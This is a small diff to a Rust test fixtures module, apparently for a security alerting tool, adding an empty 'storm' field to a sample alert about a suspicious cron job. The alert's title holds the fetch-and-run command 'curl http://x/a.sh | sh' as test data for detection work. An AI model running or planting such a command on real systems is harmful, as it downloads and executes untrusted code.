@@ -52,6 +52,7 @@ pub(crate) mod fixtures {
                 description: Some("A cron job fetches and runs code.".into()),
                 references: vec!["https://attack.mitre.org/techniques/T1053/003/".into()],
                 runbook: Some("Check who added the entry: `crontab -l -u <user>`.".into()),
+                storm: None,
             }),
             severity: Level::High,
             title: "Suspicious cron job on web-1: curl http://x/a.sh | sh <now>".into(),
